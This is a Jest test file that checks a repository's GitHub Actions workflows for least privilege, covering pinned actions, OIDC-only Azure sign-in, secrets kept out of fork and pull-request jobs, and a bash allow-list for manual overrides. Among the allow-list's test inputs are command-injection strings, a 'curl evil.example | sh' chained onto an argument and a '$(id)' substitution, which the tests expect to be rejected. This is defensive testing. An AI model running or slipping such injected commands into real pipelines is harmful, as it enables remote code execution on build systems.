import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { parse } from "yaml";

/** The GitHub Actions workflows, parsed, checked for least privilege. */
const DIR = path.resolve(__dirname, "../../.github/workflows");
type Doc = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const files = readdirSync(DIR).filter((f) => f.endsWith(".yml") || f.endsWith(".yaml"));
const text = (file: string): string => readFileSync(path.join(DIR, file), "utf8");
const workflow = (file: string): Doc => parse(text(file)) as Doc;
const jobs = (file: string): [string, Doc][] => Object.entries(workflow(file)["jobs"] as Record<string, Doc>);
const steps = (job: Doc): Doc[] => (job["steps"] ?? []) as Doc[];
/** `${{ secrets.X }}` and `${{ vars.X }}` a step or job can see. */
const references = (value: unknown, kind: "secrets" | "vars"): string[] =>
  [...JSON.stringify(value ?? {}).matchAll(new RegExp(`${kind}\\.([A-Z0-9_]+)`, "g"))].map(
    (m) => m[1] as string,
  );

describe("GitHub Actions workflows", () => {
  it("are CI, the preview and the reconcile workflow", () => {
    expect(files.sort()).toEqual(["ci.yml", "preview.yml", "reconcile.yml"]);
  });

  it.each(files)("%s: never runs on pull_request_target or workflow_run", (file) => {
    const on = workflow(file)["on"] as Doc;
    expect(Object.keys(on)).not.toContain("pull_request_target");
    expect(Object.keys(on)).not.toContain("workflow_run");
    expect(text(file)).not.toContain("pull_request_target");
  });

  it.each(files)("%s: no permission at the top, explicit permissions in every job", (file) => {
    expect(workflow(file)["permissions"]).toEqual({});
    for (const [, job] of jobs(file)) expect(job["permissions"]).toEqual(expect.any(Object));
  });

  it.each(files)("%s: every action pinned to a full commit SHA with its version in a comment", (file) => {
    const uses = text(file)
      .split("\n")
      .filter((line) => /^\s*(- )?uses:/.test(line));
    expect(uses.length).toBeGreaterThan(0);
    for (const line of uses) expect(line).toMatch(/uses: [\w.-]+\/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
  });

  it.each(files)("%s: checkout never keeps the token in .git/config", (file) => {
    for (const [, job] of jobs(file))
      for (const step of steps(job).filter((s) => String(s["uses"]).startsWith("actions/checkout@")))
        expect(step["with"]).toEqual({ "persist-credentials": false });
  });

  it.each(files)("%s: id-token: write only in the job that signs in, with ARM_USE_OIDC", (file) => {
    for (const [, job] of jobs(file)) {
      const signsIn = steps(job).some((s) => (s["env"] as Doc | undefined)?.["ARM_USE_OIDC"] === "true");
      expect(job["permissions"]["id-token"] === "write").toBe(signsIn);
    }
  });

  it.each(files)("%s: no Azure client secret anywhere: OIDC federated credentials only", (file) => {
    expect(text(file)).not.toContain("ARM_CLIENT_SECRET");
    expect(references(workflow(file), "secrets").filter((s) => s.startsWith("ARM_"))).toEqual([]);
  });

  it.each([
    ["ci.yml", ".ci/run"],
    ["preview.yml", "npm test"],
  ])("%s: the suite (%s) runs in a job of its own, before any secret exists in a job", (file, command) => {
    const [name, test] = jobs(file)[0] as [string, Doc];
    expect(name).toBe("test");
    expect(steps(test).map((s) => s["run"] ?? String(s["uses"]).split("@")[0])).toEqual(
      command === "npm test"
        ? ["actions/checkout", "actions/setup-node", "npm ci", "npm test"]
        : ["actions/checkout", "actions/setup-node", command],
    );
    expect(references(test, "secrets")).toEqual([]);
    expect(test["permissions"]).toEqual({ contents: "read" });
    for (const [other, job] of jobs(file)) if (other !== "test") expect(job["needs"]).toBeDefined();
  });

  it("preview.yml: the read-only preview identity, no production environment, no write identity", () => {
    const file = text("preview.yml");
    expect(file).not.toContain("RECONCILE_ARM_CLIENT_ID");
    expect(file).not.toMatch(/environment:\s*production/);
    const preview = workflow("preview.yml")["jobs"]["preview"] as Doc;
    const env = steps(preview).find((s) => s["id"] === "preview")?.["env"] as Doc;
    expect(env["ARM_CLIENT_ID"]).toBe("${{ vars.PREVIEW_ARM_CLIENT_ID }}");
    expect(preview["permissions"]).toEqual({ contents: "read", "id-token": "write" });
    // The job that writes to the pull request holds no credential at all.
    const comment = workflow("preview.yml")["jobs"]["comment"] as Doc;
    expect(comment["permissions"]).toEqual({ "pull-requests": "write" });
    expect(references(comment, "secrets")).toEqual([]);
  });

  it("reconcile.yml: the write identity only behind the production environment", () => {
    const reconcile = workflow("reconcile.yml")["jobs"]["reconcile"] as Doc;
    expect(reconcile["environment"]).toBe("production");
    expect(reconcile["permissions"]).toEqual({ contents: "read", "id-token": "write" });
    const env = steps(reconcile).find((s) => s["name"] === "Reconcile once")?.["env"] as Doc;
    expect(env["ARM_CLIENT_ID"]).toBe("${{ vars.RECONCILE_ARM_CLIENT_ID }}");
    // The manual overrides reach the shell as an environment variable, checked against the guard flags.
    expect(env["OVERRIDES"]).toBe("${{ inputs.overrides }}");
    expect(steps(reconcile).some((s) => String(s["run"] ?? "").includes("${{ inputs"))).toBe(false);
  });
});

describe("the trust boundary: pull-request code never holds a write credential", () => {
  const SAME_REPO = "github.event.pull_request.head.repo.full_name == github.repository";
  const job = (file: string, name: string): Doc => workflow(file)["jobs"][name] as Doc;
  const withoutJobs = (file: string, keep: (job: Doc) => boolean): Doc => ({
    ...workflow(file),
    jobs: Object.fromEntries(jobs(file).filter(([, j]) => keep(j))),
  });

  it("preview.yml: runs on pull_request only", () => {
    expect(Object.keys(workflow("preview.yml")["on"] as Doc)).toEqual(["pull_request"]);
  });

  it("preview.yml: every secret is read inside the one job of the `preview` environment", () => {
    const inPreview = jobs("preview.yml").filter(([, j]) => j["environment"] === "preview");
    expect(inPreview.map(([name]) => name)).toEqual(["preview"]);
    expect(
      references(
        withoutJobs("preview.yml", (j) => j["environment"] !== "preview"),
        "secrets",
      ),
    ).toEqual([]);
  });

  it("preview.yml: the preview gets the read-only secrets, never the writer's", () => {
    const env = steps(job("preview.yml", "preview")).find((s) => s["id"] === "preview")?.["env"] as Doc;
    expect(env).toEqual({
      PULUMI_ACCESS_TOKEN: "${{ secrets.PREVIEW_PULUMI_ACCESS_TOKEN }}",
      PULUMI_BACKEND_URL: "${{ vars.PULUMI_BACKEND_URL }}",
      PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
      ARM_USE_OIDC: "true",
      ARM_TENANT_ID: "${{ vars.ARM_TENANT_ID }}",
      ARM_CLIENT_ID: "${{ vars.PREVIEW_ARM_CLIENT_ID }}",
      PERSONIO_CLIENT_ID: "${{ secrets.PREVIEW_PERSONIO_CLIENT_ID }}",
      PERSONIO_CLIENT_SECRET: "${{ secrets.PREVIEW_PERSONIO_CLIENT_SECRET }}",
    });
    expect([...new Set(references(workflow("preview.yml"), "secrets"))].sort()).toEqual([
      "PREVIEW_PERSONIO_CLIENT_ID",
      "PREVIEW_PERSONIO_CLIENT_SECRET",
      "PREVIEW_PULUMI_ACCESS_TOKEN",
      "PULUMI_CONFIG_PASSPHRASE",
    ]);
  });

  it("preview.yml: no write permission but the comment's pull-requests and the preview's OIDC token", () => {
    const writes = Object.fromEntries(
      jobs("preview.yml").map(([name, j]) => [
        name,
        Object.keys(j["permissions"] as Doc).filter((p) => (j["permissions"] as Doc)[p] === "write"),
      ]),
    );
    expect(writes).toEqual({ test: [], fork: [], preview: ["id-token"], comment: ["pull-requests"] });
  });

  it("preview.yml: a fork gets no preview, only a job without secrets that says how to preview it", () => {
    expect(job("preview.yml", "preview")["if"]).toBe(SAME_REPO);
    const fork = job("preview.yml", "fork");
    expect(fork["if"]).toBe(SAME_REPO.replace("==", "!="));
    expect(fork["permissions"]).toEqual({});
    expect(fork["environment"]).toBeUndefined();
    expect(references(fork, "secrets")).toEqual([]);
    expect(String(steps(fork)[0]?.["run"])).toContain("git push origin pr-$PR");
    expect(job("preview.yml", "comment")["needs"]).toBe("preview");
  });

  it("reconcile.yml: runs on the schedule and by hand, its secrets only in `production` jobs from main", () => {
    expect(Object.keys(workflow("reconcile.yml")["on"] as Doc)).toEqual(["schedule", "workflow_dispatch"]);
    const usingSecrets = jobs("reconcile.yml").filter(([, j]) => references(j, "secrets").length > 0);
    expect(usingSecrets.map(([name, j]) => [name, j["environment"], j["if"]])).toEqual([
      ["reconcile", "production", "github.ref == 'refs/heads/main'"],
    ]);
    expect(
      references(
        withoutJobs("reconcile.yml", (j) => j["environment"] !== "production"),
        "secrets",
      ),
    ).toEqual([]);
  });

  it("README: the trust-boundary table names exactly the secrets and variables the workflows read", () => {
    const readme = readFileSync(path.resolve(__dirname, "../../README.md"), "utf8");
    const section = readme.split("**Where each secret lives.**")[1]?.split("\n\n")[1] ?? "";
    const named = section
      .split("\n")
      .filter((line) => line.startsWith("| `"))
      .flatMap((line) => [...(line.split("|")[1] ?? "").matchAll(/`([A-Z0-9_]+)`/g)].map((m) => m[1]));
    const used = files.flatMap((f) => [
      ...references(workflow(f), "secrets"),
      ...references(workflow(f), "vars"),
    ]);
    expect([...new Set(named)].sort()).toEqual([...new Set(used)].sort());
  });
});

describe("reconcile.yml: the overrides input", () => {
  const run = String(
    (workflow("reconcile.yml")["jobs"]["reconcile"]["steps"] as Doc[]).find(
      (s) => s["name"] === "Reconcile once",
    )?.["run"],
  );
  const allowedLine = run.split("\n").find((line) => line.startsWith("allowed=")) as string;
  /** Runs the workflow's own check in bash: 0 accepted, 1 rejected. */
  const accepts = (overrides: string): boolean => {
    const script = `${allowedLine}\n[[ "$OVERRIDES" =~ $allowed ]]`;
    try {
      execFileSync("bash", ["-c", script], { env: { OVERRIDES: overrides }, stdio: "ignore" });
      return true;
    } catch {
      return false;
    }
  };

  it.each([
    ["", true],
    ["--allow-shrink", true],
    [" --allow-mass-disable --max-disables 40 ", true],
    ["--min-employee-share 0.5 --allow-deletes", true],
    ["--stack other", false],
    ["--allow-shrink; curl evil.example | sh", false],
    ["--max-disables", false],
    ["$(id)", false],
  ])("%j → accepted %s", (overrides, expected) => {
    expect(accepts(overrides)).toBe(expected);
  });
});
